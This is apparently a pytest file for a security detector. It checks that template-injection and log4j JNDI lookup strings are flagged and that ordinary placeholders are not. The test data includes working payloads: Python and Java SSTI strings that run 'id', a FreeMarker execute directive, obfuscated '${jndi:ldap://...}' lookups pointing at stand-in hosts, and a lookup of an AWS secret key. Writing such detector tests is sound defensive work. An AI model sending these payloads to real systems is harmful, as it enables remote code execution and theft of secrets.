"""Template injection and log4j lookups, however nested; placeholders are fine."""

from __future__ import annotations

import pytest

from secmon.attacks import template


@pytest.mark.parametrize(("text", "rule"), [
    ("{{7*7}}", "ssti.arithmetic_probe"),
    ("${{7*7}}", "ssti.arithmetic_probe"),
    ("<%= 7*7 %>", "ssti.arithmetic_probe"),
    ("{{config}}", "ssti.globals_probe"),
    ("{{ ''.__class__.__mro__[2].__subclasses__() }}", "ssti.code"),
    ("${t(java.lang.runtime).getruntime().exec('id')}", "ssti.code"),
    ("{% import os %}{{ os.popen('id').read() }}", "ssti.directive"),
    ("<#assign ex=\"freemarker.template.utility.execute\"?new()>", "ssti.directive"),
    ("x.__class__.__bases__[0]", "ssti.object_walk"),
])
def test_templates(text: str, rule: str) -> None:
    hit = template.detect(text)
    assert hit is not None and hit.rule_id == rule, (text, hit)


@pytest.mark.parametrize("text", [
    "dear {{first_name}}, your order {{ order.id }} has shipped.", "hi ${name}!",
    "{% if user %}hello{% endif %}", "{placeholder}", "use __init__ to set attributes",
    "query { user(id: 42) { name } }", "{\"a\": 1}", "${price} per month",
])
def test_placeholders(text: str) -> None:
    assert template.detect(text) is None


@pytest.mark.parametrize("text", [
    "${jndi:ldap://x.example/a}", "${${lower:j}ndi:ldap://x/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "${j${k8s:k5:-nd}i:ldap://x/a}",
    "${${env:nope:-j}ndi${env:nope:-:}ldap://x/a}", "${${date:'j'}${date:'n'}${date:'d'}"
    "${date:'i'}:ldap://x/a}", "${jndi:dns://x/a}",
])
def test_jndi_lookups(text: str) -> None:
    hit = template.detect_jndi(text)
    assert hit is not None and hit.confidence == "high", text


def test_other_lookups_and_plain_text() -> None:
    hit = template.detect_jndi("${env:aws_secret_access_key}")
    assert hit is not None and hit.confidence == "medium"
    assert template.detect_jndi("${name} costs ${price}") is None
